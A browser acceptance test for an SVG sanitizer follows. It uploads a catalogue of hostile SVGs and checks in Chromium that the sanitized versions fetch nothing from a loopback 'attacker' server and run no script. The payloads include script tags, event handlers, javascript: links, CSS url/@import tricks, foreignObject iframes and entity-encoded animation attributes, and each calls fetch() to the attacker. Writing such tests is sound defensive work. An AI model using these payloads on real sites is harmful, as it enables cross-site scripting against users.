/**
 * Acceptance (issue 10): a sanitized SVG opened in real Chromium loads no external resource and
 * runs no script. Hostile SVGs aim every known way of fetching or scripting at an "attacker" HTTP
 * server on loopback; each is uploaded, and the delivered document is opened (a) as a top-level
 * document, (b) in <img> and (c) inlined into an HTML page with fetch + innerHTML. Every request
 * Chromium makes is recorded, and the attacker server counts its own hits: both must stay at zero,
 * and no payload script may set its window flag.
 *
 * (c) is the one that judges the sanitizer alone: that page is served WITHOUT a Content-Security-
 * Policy, and an inlined document does not get delivery's CSP header either, so nothing but the
 * sanitizer stands between the payloads and the page. (a) also has delivery's CSP; (b) has the
 * browser's own rules for images. A positive control proves the harness can see a hit: the very
 * same page inlining the UNSANITIZED documents hits the attacker server and runs their script.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { launchChromium, skipBrowserSuite } from '../helpers/browser.js';
import { deliveryPath, upload } from '../helpers/delivery.js';
import { startPictor, type TestPictor } from '../helpers/pictor.js';

/** A loopback HTTP server; `hits` holds the path of every request it got. */
interface Server {
  origin: string;
  hits: string[];
  close(): Promise<void>;
}

async function serve(respond: (path: string, res: http.ServerResponse) => void): Promise<Server> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    respond(req.url ?? '', res);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/**
 * The payloads, each naming the attacker path it would load: `A(name)` is that URL, and
 * `RUN(name)` script that sets the page's flag and reports to the attacker.
 */
function payloads(attacker: string): Record<string, { root?: string; body: string }> {
  const A = (name: string) => `${attacker}/${name}`;
  const RUN = (name: string) => `window.__pwned = (window.__pwned || []).concat('${name}'); fetch('${A(`${name}-ran`)}')`;
  const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';
  return {
    'script-element': { body: `<script>${RUN('script-element')}</script>` },
    'script-src': { body: `<script href="${A('script-src.js')}"/><script xlink:href="${A('script-xlink.js')}"/>` },
    'onload-root': { root: `onload="${RUN('onload-root')}"`, body: '' },
    'onerror-image': { body: `<image href="data:image/png;base64,AAAA" width="1" height="1" onerror="${RUN('onerror-image')}"/>` },
    'image-href': { body: `<image href="${A('image-href.png')}" width="10" height="10"/><image xlink:href="${A('image-xlink.png')}" width="10" height="10"/>` },
    'use-href': { body: `<use href="${A('use.svg')}#a"/><use xlink:href="${A('use-xlink.svg')}#a"/>` },
    'feimage': { body: `<filter id="f"><feImage href="${A('feimage.png')}"/><feImage xlink:href="${A('feimage-xlink.png')}"/></filter><rect width="10" height="10" filter="url(#f)"/>` },
    'style-import': { body: `<style>@import url(${A('style-import.css')});</style>` },
    'style-import-split': { body: `<style>@im<!-- -->port "${A('style-import-split.css')}";</style>` },
    // Each background rule names its own document's root: one shared selector would let the last
    // document inlined override the others' rules before Chromium fetched their images.
    'style-url-cdata': { root: 'class="style-url-cdata"', body: `<style><![CDATA[.style-url-cdata { background-image: ur]]><![CDATA[l(${A('style-url-cdata.png')}) }]]></style>` },
    'style-background': { root: 'class="style-background"', body: `<style>.style-background { background-image: url(${A('style-background.png')}) }</style>` },
    'style-image-set': { root: 'class="style-image-set"', body: `<style>.style-image-set { background-image: image-set("${A('style-image-set.png')}" 1x) }</style>` },
    'style-font': { body: `<style>@font-face { font-family: x; src: url(${A('style-font.woff')}) } text { font-family: x }</style><text y="10">font</text>` },
    'style-cursor': { body: `<style>rect { cursor: url(${A('style-cursor.png')}), auto }</style><rect width="10" height="10"/>` },
    'style-fill': { body: `<style>rect { fill: url(${A('style-fill.svg')}#p) }</style><rect width="10" height="10"/>` },
    'style-attribute': { root: `style="background-image: url(${A('style-attribute.png')})"`, body: '' },
    'style-attribute-image-set': { root: `style="background-image: image-set(&quot;${A('style-attribute-image-set.png')}&quot; 1x)"`, body: '' },
    'style-attribute-encoded': { root: `style="background-image: u&#114;l(${A('style-attribute-encoded.png')})"`, body: '' },
    'fill-attribute': { body: `<rect width="10" height="10" fill="url(${A('fill-attribute.svg')}#p)"/>` },
    'set-href-encoded': { body: `<image width="10" height="10"><set attributeName="&#104;ref" to="${A('set-href-encoded.png')}" begin="0s"/></image>` },
    'animate-href-encoded': { body: `<image width="10" height="10"><animate attributeName="&#x68;ref" values="${A('animate-href-encoded.png')}" dur="1s"/></image>` },
    'set-onload-encoded': { body: `<rect width="10" height="10"><set attributeName="&#111;nclick" to="${RUN('set-onload-encoded')}"/></rect>` },
    'foreign-iframe': { body: `<foreignObject width="50" height="50"><iframe ${XHTML} src="${A('foreign-iframe.html')}"/></foreignObject>` },
    'foreign-img': { body: `<foreignObject width="50" height="50"><img ${XHTML} src="${A('foreign-img.png')}" onerror="${RUN('foreign-img')}"/></foreignObject>` },
    'xml-stylesheet': { body: '' },
    'link-javascript': { body: `<a href="javascript:${RUN('link-javascript')}"><rect id="link" width="10" height="10"/></a>` },
  };
}

/** Attacker paths Chromium requests when the unsanitized documents are inlined (measured). */
const INLINE_CONTROL_HITS = [
  'animate-href-encoded.png',
  'feimage-xlink.png',
  'feimage.png',
  'foreign-iframe.html',
  'foreign-img-ran',
  'foreign-img.png',
  'image-href.png',
  'image-xlink.png',
  'link-javascript-ran',
  'onerror-image-ran',
  'set-href-encoded.png',
  'style-attribute-encoded.png',
  'style-attribute-image-set.png',
  'style-attribute.png',
  'style-background.png',
  'style-cursor.png',
  'style-fill.svg',
  'style-font.woff',
  'style-image-set.png',
  'style-import-split.css',
  'style-import.css',
  'style-url-cdata.png',
];

const svgDocument = ({ root = '', body }: { root?: string; body: string }) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="60" ${root}>${body}</svg>`;

/** The raw text of every hostile document (one gets an xml-stylesheet processing instruction). */
function hostileDocuments(attacker: string): Map<string, string> {
  return new Map(
    Object.entries(payloads(attacker)).map(([name, payload]) => [
      name,
      (name === 'xml-stylesheet' ? `<?xml-stylesheet href="${attacker}/xml-stylesheet.css"?>` : '') + svgDocument(payload),
    ]),
  );
}

/** Fetches each document and inlines it with innerHTML (no CSP on this page); sets __inlined when done. */
const inliningPage = (urls: string[]) => `<!doctype html><meta charset="utf-8"><body><script>
  (async () => {
    for (const url of ${JSON.stringify(urls)}) {
      const holder = document.createElement('div');
      holder.innerHTML = await (await fetch(url)).text();
      document.body.append(holder);
    }
    window.__inlined = true;
  })();
</script>`;

describe.skipIf(skipBrowserSuite)('hostile SVGs in Chromium', () => {
  let pictor: TestPictor;
  let browser: Browser;
  let attacker: Server;
  /** The embedding site: `/` is `sitePage`; `/raw/<name>` the unsanitized document (control). */
  let site: Server;
  let sitePage = '';
  let raw: Map<string, string>;
  const delivered = new Map<string, string>();

  beforeAll(async () => {
    attacker = await serve((_path, res) => res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' }).end(''));
    raw = hostileDocuments(attacker.origin);
    const server = await serve((path, res) => {
      const name = decodeURIComponent(path.slice('/raw/'.length));
      if (path.startsWith('/raw/') && raw.has(name)) res.writeHead(200, { 'content-type': 'image/svg+xml' }).end(raw.get(name));
      else res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(sitePage);
    });
    // "localhost": another origin than Pictor's 127.0.0.1, as an embedding site is.
    site = { ...server, origin: server.origin.replace('127.0.0.1', 'localhost') };
    pictor = await startPictor();
    for (const [name, text] of raw) {
      const id = await upload(pictor, Buffer.from(text), { filename: `${name}.svg` });
      delivered.set(name, pictor.origin + deliveryPath(pictor, id, 'public'));
    }
    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser?.close();
    await pictor?.close();
    await site?.close();
    await attacker?.close();
  });

  /** A tab that records every request it makes that is not to Pictor or the site (data: URLs aside). */
  async function watchedTab(): Promise<{ tab: Page; outside: string[] }> {
    const tab = await browser.newPage();
    const outside: string[] = [];
    const own = [pictor.origin, site.origin, site.origin.replace('localhost', '127.0.0.1')];
    tab.on('request', (request) => {
      const url = request.url();
      if (!url.startsWith('data:') && !own.some((origin) => url.startsWith(`${origin}/`))) outside.push(url);
    });
    return { tab, outside };
  }

  /** Lets SMIL animations, fonts and late loads start; no assertion is timed. */
  async function settle(tab: Page): Promise<void> {
    await tab.waitForLoadState('networkidle');
    // A click on each link would fire javascript: URLs the sanitizer missed.
    await tab.evaluate(`document.querySelectorAll('a, #link').forEach((link) => link.dispatchEvent(new MouseEvent('click', { bubbles: true })))`);
    await tab.waitForTimeout(500);
    await tab.waitForLoadState('networkidle');
  }

  /** Opens each document as a top-level document (three tabs, each in turn); what was hit and ran. */
  async function topLevel(documents: Array<[string, string]>) {
    const hitsBefore = attacker.hits.length;
    const outside: string[] = [];
    const ran: Record<string, string[]> = {};
    const lanes = [0, 1, 2].map((lane) => documents.filter((_, i) => i % 3 === lane));
    await Promise.all(
      lanes.map(async (lane) => {
        const watched = await watchedTab();
        for (const [name, url] of lane) {
          const res = await watched.tab.goto(url);
          expect(res?.headers()['content-type']).toBe('image/svg+xml');
          await settle(watched.tab);
          const pwned = (await watched.tab.evaluate('window.__pwned')) as string[] | undefined;
          if (pwned) ran[name] = pwned;
        }
        outside.push(...watched.outside);
        await watched.tab.close();
      }),
    );
    return { hits: attacker.hits.slice(hitsBefore), outside, ran };
  }

  /**
   * Loads the inlining page for these URLs; what the attacker and the tab saw, and the script flag.
   * A positive control names the hits it expects and waits for them (a loaded machine can take
   * longer than settle's pause); the negative checks wait only for settle.
   */
  async function inline(urls: string[], expectedHits: string[] = []) {
    const hitsBefore = attacker.hits.length;
    sitePage = inliningPage(urls);
    const { tab, outside } = await watchedTab();
    await tab.goto(`${site.origin}/`);
    await tab.waitForFunction('window.__inlined === true');
    await settle(tab);
    const arrived = () => expectedHits.every((hit) => attacker.hits.slice(hitsBefore).includes(`/${hit}`));
    await vi.waitFor(() => expect(arrived()).toBe(true), { timeout: 20_000, interval: 100 }).catch(() => undefined);
    const pwned = (await tab.evaluate('window.__pwned ?? []')) as string[];
    const inlinedSvgs = await tab.evaluate(`document.querySelectorAll('body > div > svg').length`);
    await tab.close();
    return { hits: attacker.hits.slice(hitsBefore), outside, pwned, inlinedSvgs };
  }

  it('positive control: the unsanitized documents, inlined by the same page, hit the attacker and run script', async () => {
    const seen = await inline(
      [...raw.keys()].map((name) => `${site.origin}/raw/${encodeURIComponent(name)}`),
      INLINE_CONTROL_HITS,
    );
    expect(seen.inlinedSvgs).toBe(raw.size);
    // What Debian's Chromium loads or runs from inlined SVG markup (measured). Scripts inserted by
    // innerHTML never run, a cross-origin <use> and external paint servers are never fetched: the
    // top-level control below covers those.
    expect(seen.hits.map((path) => path.slice(1))).toEqual(expect.arrayContaining(INLINE_CONTROL_HITS));
    expect(seen.outside.length).toBeGreaterThanOrEqual(INLINE_CONTROL_HITS.length);
    expect(seen.pwned).toEqual(expect.arrayContaining(['onerror-image', 'foreign-img', 'link-javascript']));
  });

  it('positive control: unsanitized documents opened top-level (no CSP) hit the attacker and run script', async () => {
    const seen = await topLevel(['script-element', 'script-src', 'onload-root', 'xml-stylesheet'].map((name) => [name, `${site.origin}/raw/${name}`]));
    expect(seen.hits.map((path) => path.slice(1))).toEqual(
      expect.arrayContaining(['script-element-ran', 'script-src.js', 'script-xlink.js', 'onload-root-ran', 'xml-stylesheet.css']),
    );
    expect(seen.ran).toEqual({ 'script-element': ['script-element'], 'onload-root': ['onload-root'] });
  });

  it('(c) inlined into a page without CSP: no request leaves, no script runs', async () => {
    const seen = await inline([...delivered.values()]);
    expect(seen.inlinedSvgs).toBe(delivered.size);
    expect(seen).toMatchObject({ hits: [], outside: [], pwned: [] });
  });

  it('(b) in <img>: no request leaves', async () => {
    const hitsBefore = attacker.hits.length;
    sitePage = `<!doctype html><body>${[...delivered.values()].map((url) => `<img src="${url}">`).join('')}`;
    const { tab, outside } = await watchedTab();
    await tab.goto(`${site.origin}/`);
    await settle(tab);
    const shown = await tab.evaluate('[...document.images].filter((image) => image.naturalWidth > 0).length');
    await tab.close();
    expect(shown).toBe(delivered.size);
    expect({ hits: attacker.hits.slice(hitsBefore), outside }).toEqual({ hits: [], outside: [] });
  });

  it('(a) as a top-level document: no request leaves, no script runs', async () => {
    expect(await topLevel([...delivered])).toEqual({ hits: [], outside: [], ran: {} });
  }, 240_000);
});
